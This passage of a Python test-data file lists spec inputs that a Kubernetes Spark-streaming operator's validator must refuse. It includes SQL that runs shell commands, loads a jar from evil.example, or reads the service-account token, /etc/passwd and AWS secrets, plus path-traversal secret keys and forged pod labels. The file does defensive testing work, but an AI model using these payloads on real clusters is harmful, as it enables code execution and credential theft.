        "spec.source.kafka.auth.secretRef.name",
        "policy.allowedSecrets",
    ),
    # consumer groups under another namespace's ACL prefix (the job's default is streamq.<ns>.<query>.source)
    "names: a consumer group prefix of another namespace": (
        kafka_option("groupIdPrefix", "streamq.team-b.payments.source"),
        "team-a",
        "spec.source.kafka.options.groupIdPrefix",
        "policy.transactionalNames",
    ),
    "names: a consumer group prefix that extends the namespace's name": (
        kafka_option("groupIdPrefix", "streamq.team-a-b.q"),
        "team-a",
        "spec.source.kafka.options.groupIdPrefix",
        "policy.transactionalNames",
    ),
    # pod placement and metadata (contract.placement): a label or annotation that makes a pod pass for
    # another (the operator's and Spark's selectors), nodes and priorities the platform did not hand out
    "placement: forged query labels": (
        pod(labels={"streamq.io/query": "payments", "streamq.io/component": "driver"}),
        "team-a",
        "spec.runtime.driver.labels.streamq.io/query",
        "policy.reservedMetadata",
    ),
    "placement: the managed-by label": (
        pod(labels={"app.kubernetes.io/managed-by": "streamq"}),
        "team-a",
        "spec.runtime.driver.labels.app.kubernetes.io/managed-by",
        "policy.reservedMetadata",
    ),
    "placement: Spark's executor selector": (
        pod("executors", labels={"spark-role": "executor"}),
        "team-a",
        "spec.runtime.executors.labels.spark-role",
        "policy.reservedMetadata",
    ),
    "placement: a forged spec-hash annotation": (
        pod(annotations={"streamq.io/spec-hash": "0123456789abcdef"}),
        "team-a",
        "spec.runtime.driver.annotations.streamq.io/spec-hash",
        "policy.reservedMetadata",
    ),
    "placement: control-plane toleration": (
        pod(tolerations=[{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}]),
        "team-a",
        "spec.runtime.driver.tolerations[0].key",
        "policy.allowedTolerationKeys",
    ),
    "placement: tolerating every taint": (
        pod("executors", tolerations=[{"operator": "Exists"}]),
        "team-a",
        "spec.runtime.executors.tolerations[0].key",
        "policy.allowedTolerationKeys",
    ),
    "placement: staying on a lost node": (
        pod(tolerations=[{"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute"}]),
        "team-a",
        "spec.runtime.driver.tolerations[0].key",
        "policy.operatorTolerations",
    ),
    "placement: system-node-critical priority": (
        pod(priorityClassName="system-node-critical"),
        "team-a",
        "spec.runtime.driver.priorityClassName",
        "policy.allowedPriorityClasses",
    ),
    "placement: an unlisted priority class": (
        pod("executors", priorityClassName="high-priority"),
        "team-a",
        "spec.runtime.executors.priorityClassName",
        "policy.allowedPriorityClasses",
    ),
    "placement: nodeSelector of the control plane": (
        pod(nodeSelector={"node-role.kubernetes.io/control-plane": ""}),
        "team-a",
        "spec.runtime.driver.nodeSelector.node-role.kubernetes.io/control-plane",
        "policy.allowedNodeLabels",
    ),
    "placement: node affinity to a GPU pool": (
        pod(
            affinity={
                "nodeAffinity": {
                    "requiredDuringSchedulingIgnoredDuringExecution": {
                        "nodeSelectorTerms": [{"matchExpressions": [{"key": "nvidia.com/gpu.present", "operator": "Exists"}]}]
                    }
                }
            }
        ),
        "team-a",
        "spec.runtime.driver.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution"
        ".nodeSelectorTerms[0].matchExpressions[0].key",
        "policy.allowedNodeLabels",
    ),
    "placement: a label a NetworkPolicy selects": (
        pod(labels={"role": "db"}),
        "team-a",
        "spec.runtime.driver.labels.role",
        "policy.allowedLabelPrefixes",
    ),
    "placement: no mesh sidecar annotation": (
        pod(annotations={"sidecar.istio.io/inject": "false"}),
        "team-a",
        "spec.runtime.driver.annotations.sidecar.istio.io/inject",
        "policy.allowedAnnotationPrefixes",
    ),
}


# --- refused by the spec's own rules (every caller: the job too; the operator: Invalid, InvalidSpec) ---

# name: (spec, path, what the message says)
REFUSED_BY_RULES = {
    "statement: TRANSFORM runs a shell": (
        step(sql="SELECT TRANSFORM(CAST(value AS STRING)) USING 'sh -c \"id\"' AS (value) FROM input"),
        "spec.transforms[3].sql",
        "TRANSFORM",
    ),
    "statement: Hive's MAP ... USING": (
        step(sql="FROM input MAP value USING '/bin/sh' AS v"),
        "spec.transforms[3].sql",
        "write one SELECT",
    ),
    "statement: a function from a remote jar": (
        step(sql="CREATE TEMPORARY FUNCTION f AS 'Evil' USING JAR 'https://evil.example/x.jar'"),
        "spec.transforms[3].sql",
        "statements are not allowed",
    ),
    "statement: ADD JAR": (step(sql="ADD JAR https://evil.example/x.jar"), "spec.transforms[3].sql", "not allowed"),
    "statement: SET a setting": (
        step(sql="SET spark.sql.ansi.doubleQuotedIdentifiers=true"),
        "spec.transforms[3].sql",
        "not allowed",
    ),
    "statement: two statements": (
        step(sql="SELECT * FROM input; DROP TABLE IF EXISTS input"),
        "spec.transforms[3].sql",
        "2 statements",
    ),
    "statement: write files with INSERT OVERWRITE DIRECTORY": (
        step(sql="INSERT OVERWRITE DIRECTORY '/opt/streamq' USING text SELECT * FROM input"),
        "spec.transforms[3].sql",
        "write one SELECT",
    ),
    "statement: EXECUTE IMMEDIATE": (
        step(sql="EXECUTE IMMEDIATE 'SELECT reflect(1) FROM input'"),
        "spec.transforms[3].sql",
        "write one SELECT",
    ),
    "relation: the account token as a text file": (
        step(sql="SELECT i.* FROM input i JOIN text.`/var/run/secrets/kubernetes.io/serviceaccount/token` t"),
        "spec.transforms[3].sql",
        "the only relation is the view `input`",
    ),
    "relation: read_files": (
        step(sql="SELECT * FROM input UNION ALL SELECT * FROM read_files('/etc/streamq')"),
        "spec.transforms[3].sql",
        "the only relation is the view `input`",
    ),
    "relation: a file read inside a CTE": (
        step(sql="WITH f AS (SELECT * FROM csv.`/etc/passwd`) SELECT i.* FROM input i, f"),
        "spec.transforms[3].sql",
        "the only relation is the view `input`",
    ),
    "relation: another table in a subquery": (
        step(sql="SELECT * FROM input WHERE key IN (SELECT key FROM other_team.payments)"),
        "spec.transforms[3].sql",
        "the only relation is the view `input`",
    ),
    "relation: a subquery inside a where": (
        step(where="key IN (SELECT value FROM parquet.`s3a://other/secrets`)"),
        "spec.transforms[3].where",
        "reads no table",
    ),
    "text: ${env:...} substitution": (
        step(sql="SELECT *, '${env:AWS_SECRET_ACCESS_KEY}' AS s FROM input"),
        "spec.transforms[3].sql",
        "substitution",
    ),
    "text: a hint holds a call": (
        step(sql="SELECT /*+ REPARTITION(reflect('java.lang.System', 'exit', 1)) */ * FROM input"),
        "spec.transforms[3].sql",
        "hints",
    ),
    "text: SQL no parser can read": (
        step(sql="SELECT * FROM input WHERE ((("),
        "spec.transforms[3].sql",
        "not readable",
    ),
}


# --- refused by the static limits (the CRD: the API server refuses them first) ---------------


def _long(n: int) -> str:
    return "x" * n


# name: (spec, path, what pydantic says, the CRD node's path and limit)
REFUSED_BY_LIMITS = {
    "huge SQL": (
        changed(BASE, {"transforms": [{"sql": f"SELECT * FROM input WHERE key = '{_long(70_000)}'"}]}),
        "spec.transforms[0].sql",
        "at most 65536 characters",
        ("transforms", "[]", "sql"),
        ("maxLength", 65_536),
    ),
    "huge where": (
        changed(BASE, {"transforms": [{"where": f"key = '{_long(10_000)}'"}]}),
        "spec.transforms[0].where",
        "at most 8192 characters",
        ("transforms", "[]", "where"),
        ("maxLength", 8_192),
    ),
    "huge select item": (
        changed(BASE, {"transforms": [{"select": [f"'{_long(10_000)}' AS x"]}]}),
        "spec.transforms[0].select[0]",
        "at most 8192 characters",
        ("transforms", "[]", "select", "[]"),
        ("maxLength", 8_192),
    ),
    "300 select items": (
        changed(BASE, {"transforms": [{"select": [f"c{i}" for i in range(300)]}]}),
        "spec.transforms[0].select",
        "at most 256 items",
        ("transforms", "[]", "select"),
        ("maxItems", 256),
    ),
    "100 transforms": (
        changed(BASE, {"transforms": [{"where": "true"}] * 100}),
        "spec.transforms",
        "at most 64 items",
        ("transforms",),
        ("maxItems", 64),
    ),
    "100 Kafka options": (
        changed(BASE, {"source.kafka.options": {f"kafka.x{i}": "1" for i in range(100)}}),
        "spec.source.kafka.options",
        "at most 64 items",
        ("source", "kafka", "options"),
        ("maxProperties", 64),
    ),
    "200 Spark settings": (
        changed(BASE, {"runtime.sparkConf": {f"spark.sql.x{i}": "1" for i in range(200)}}),
        "spec.runtime.sparkConf",
        "at most 128 items",
        ("runtime", "sparkConf"),
        ("maxProperties", 128),
    ),
    "10,000 executors": (
        changed(BASE, {"runtime.executors": {"instances": 10_000}}),
        "spec.runtime.executors.instances",
        "less than or equal to 1000",
        ("runtime", "executors", "instances"),
        ("maximum", 1_000),
    ),
    "128 cores per executor": (
        changed(BASE, {"runtime.executors": {"instances": 1, "cores": 128}}),
        "spec.runtime.executors.cores",
        "less than or equal to 64",
        ("runtime", "executors", "cores"),
        ("maximum", 64),
    ),
    "128 driver cores": (
        changed(BASE, {"runtime.driver": {"cores": 128}}),
        "spec.runtime.driver.cores",
        "less than or equal to 64",
        ("runtime", "driver", "cores"),
        ("maximum", 64),
    ),
    "a huge Spark setting value": (
        changed(BASE, {"runtime.sparkConf": {"spark.sql.x": _long(5_000)}}),
        "spec.runtime.sparkConf.spark.sql.x",
        "at most 4096 characters",
        ("runtime", "sparkConf", "{}"),
        ("maxLength", 4_096),
    ),
    "secret key: a path out of the Secret": (
        changed(
            BASE,
            {
                "sink.kafka.auth": {
                    "secretRef": {"name": "streamq-kafka", "passwordKey": "../../kubernetes.io/serviceaccount/token"}
                }
            },
        ),
        "spec.sink.kafka.auth.secretRef.passwordKey",
        "should match pattern",
        ("sink", "kafka", "auth", "secretRef", "passwordKey"),
        ("pattern", SECRET_KEY_PATTERN),
    ),
    "secret key: the directory above": (
        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "streamq-kafka", "usernameKey": ".."}}}),
        "spec.source.kafka.auth.secretRef.usernameKey",
        "should match pattern",
        ("source", "kafka", "auth", "secretRef", "usernameKey"),
        ("pattern", SECRET_KEY_PATTERN),
    ),
    "secret key: a client key out of its Secret": (
        changed(
            BASE,
            {
                "sink.kafka.tls": {
                    "clientCertificate": {"name": "streamq-kafka-user", "keyKey": "../../kubernetes.io/serviceaccount/token"}
                }
            },
        ),
        "spec.sink.kafka.tls.clientCertificate.keyKey",
        "should match pattern",
        ("sink", "kafka", "tls", "clientCertificate", "keyKey"),
        ("pattern", SECRET_KEY_PATTERN),
    ),
    "secret key: a CA key naming the directory above": (
        changed(BASE, {"source.kafka.tls": {"caSecretRef": {"name": "streamq-kafka-ca", "key": ".."}}}),
        "spec.source.kafka.tls.caSecretRef.key",
        "should match pattern",
        ("source", "kafka", "tls", "caSecretRef", "key"),
        ("pattern", SECRET_KEY_PATTERN),
    ),
    "a huge Kafka option value": (
        kafka_option("kafka.client.id", _long(5_000)),
        "spec.source.kafka.options.kafka.client.id",
        "at most 4096 characters",
        ("source", "kafka", "options", "{}"),
        ("maxLength", 4_096),
    ),
    "100 labels on the driver pod": (
        pod(labels={f"team.example.com/l{i}": "x" for i in range(100)}),
        "spec.runtime.driver.labels",
        "at most 32 items",
        ("runtime", "driver", "labels"),
        ("maxProperties", 32),
    ),
    "a label value past Kubernetes' 63 characters": (
        pod("executors", instances=1, labels={"team.example.com/owner": _long(64)}),
        "spec.runtime.executors.labels.team.example.com/owner",
        "at most 63 characters",
        ("runtime", "executors", "labels", "{}"),
        ("maxLength", 63),
    ),
}
